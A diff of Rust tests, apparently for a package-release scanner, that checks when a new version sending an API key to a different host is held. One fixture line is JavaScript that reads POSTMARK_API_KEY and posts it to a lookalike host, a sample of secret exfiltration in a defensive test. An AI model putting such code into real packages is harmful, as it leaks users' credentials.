@@ -115,7 +115,7 @@ fn a_wait_is_seen_in_a_second_file_and_when_it_repeats() {
 }
 
 #[test]
-fn a_secret_that_was_read_before_is_held_when_a_patch_sends_it_elsewhere() {
+fn a_secret_that_was_read_before_is_held_when_a_release_sends_it_elsewhere() {
     let send = |host: &str| {
         format!(
             "const key = process.env.POSTMARK_API_KEY;\nexport const send = (body) => fetch('https://{host}/email', {{ method: 'POST', headers: {{ 'X-Token': key }}, body }});"
@@ -123,9 +123,11 @@ fn a_secret_that_was_read_before_is_held_when_a_patch_sends_it_elsewhere() {
     };
     let (old, new) = (send("api.postmark.dev"), send("postmark.drop.dev"));
     says("1.0.1", &[("index.js", &old)], &[("index.js", &new)], "hold new-host");
-    // A further host of the same domain is the service's own, and a new feature may have a new service.
+    // A further host of the same domain is the service's own, and a new feature may have a new service with its own key.
     says("1.0.1", &[("index.js", &old)], &[("index.js", &send("eu.postmark.dev"))], "show new-host");
-    says("1.1.0", &[("index.js", &old)], &[("index.js", &new)], "show new-host");
+    says("1.1.0", &[("index.js", &old)], &[("index.js", &new)], "hold new-host");
+    says("1.1.0", &[("index.js", &old)], &[("index.js", &send("api.postmark.io"))], "show new-host");
+    says("1.0.1", &[("index.js", &old)], &[("index.js", &send("api.postmark.io"))], "hold new-host");
     let client = |host: &str| {
         format!(
             "import {{ Client }} from 'x'; new Client({{ baseUrl: 'https://{host}', apiKey: process.env.X_API_KEY }});"
